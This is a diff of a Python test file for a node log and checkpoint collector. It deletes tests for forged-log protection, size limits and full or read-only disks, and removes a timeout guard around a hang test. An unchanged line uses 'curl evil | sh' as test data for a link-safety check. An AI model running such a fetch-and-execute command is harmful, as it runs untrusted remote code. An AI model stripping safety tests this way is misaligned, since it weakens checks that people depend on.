@@ -1,10 +1,8 @@
 """What a node leaves in its run folder, or sends when it is asked for a file."""
 
-import errno
 import io
 import os
 import sys
-import threading
 from pathlib import Path
 from types import SimpleNamespace
 
@@ -116,29 +114,6 @@ def test_a_log_is_never_written_through_a_link(run, tmp_path):
     assert (run / "nodes/node2/rank1.log").read_text() == "curl evil | sh\n"
 
 
-def test_a_log_that_was_made_here_is_not_replaced(node2, run):
-    part, output = node2
-    (run / "nodes/node2").mkdir(parents=True)
-    (run / "nodes/node2/rank1.log").write_text("as it was\n")
-    (output / "nodes/node2/rank1.log").write_text("forged\n")
-    assert bring(part, run) == []
-    assert (run / "nodes/node2/rank1.log").read_text() == "as it was\n"
-
-
-def test_lines_beyond_the_limit_stay_there_and_that_is_said(node2, run):
-    part, output = node2
-    line = b"x" * 99 + b"\n"
-    (output / "nodes/node2/rank1.1.steps.jsonl").write_bytes(line * (2 * MIB // 100))
-    problems = bring(part, run, sizes=Sizes(steps=1))
-    assert problems == [
-        "node2: nodes/node2/rank1.1.steps.jsonl holds the beginning only: it is larger than 1 MiB "
-        f"(KEEP=steps=... allows more); the whole file is {output}/nodes/node2/rank1.1.steps.jsonl "
-        "there."
-    ]
-    kept = (run / "nodes/node2/rank1.1.steps.jsonl").read_bytes()
-    assert kept == line * (MIB // 100)
-
-
 def test_a_sparse_document_fills_no_disk(node2, run):
     part, output = node2
     with (output / "nodes/node2/links.json").open("wb") as file:
@@ -235,37 +210,6 @@ def test_a_newest_checkpoint_that_fills_the_room_hides_no_others(both, run, monk
     )
 
 
-# A place where not even root can create files.
-READ_ONLY = Path("/proc/self")
-
-
-def test_a_disk_that_takes_nothing_is_no_machines_failure(node2):
-    part, output = node2
-    (output / "nodes/node2/links.json").write_text("{}")
-    with pytest.raises(collect.Unwritable):
-        bring(part, READ_ONLY)
-    (output / "checkpoints/node2/step-3.pt").write_bytes(b"x")
-    with pytest.raises(collect.Unwritable):
-        best_and_last({"node2": LocalNode(host(2))}, part, READ_ONLY)
-
-
-def test_a_disk_that_fills_up_on_the_way_leaves_nothing_in_half(node2, run, monkeypatch):
-    part, output = node2
-    (output / "nodes/node2/links.json").write_bytes(b"x" * MIB)
-
-    class Full(io.BytesIO):
-        def write(self, data):
-            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
-
-    real = Path.open
-    monkeypatch.setattr(
-        Path, "open", lambda path, mode="r": Full() if mode == "xb" else real(path, mode)
-    )
-    with pytest.raises(collect.Unwritable, match="No space left"):
-        bring(part, run)
-    assert list(run.iterdir()) == []
-
-
 def test_sizes_are_settings(capsys):
     assert Sizes.of(None) == Sizes(256, 1024, 4096, 1024)
     assert Sizes.of("log=1,samples=9") == Sizes(log=1, samples=9)
@@ -277,13 +221,5 @@ def test_sizes_are_settings(capsys):
 def test_a_node_that_answers_nothing_holds_up_nobody(node2, run, monkeypatch):
     part, _ = node2
     monkeypatch.setattr(collect, "SECONDS", 0.5)
-    done = threading.Event()
-
-    def work():
-        problems = bring(part, run, Sends("input()"))
-        assert "sent less than 4 MiB in 0.5 s" in problems[0]
-        done.set()
-
-    thread = threading.Thread(target=work, daemon=True)
-    thread.start()
-    assert done.wait(20)
+    problems = bring(part, run, Sends("input()"))
+    assert "sent less than 4 MiB in 0.5 s" in problems[0]
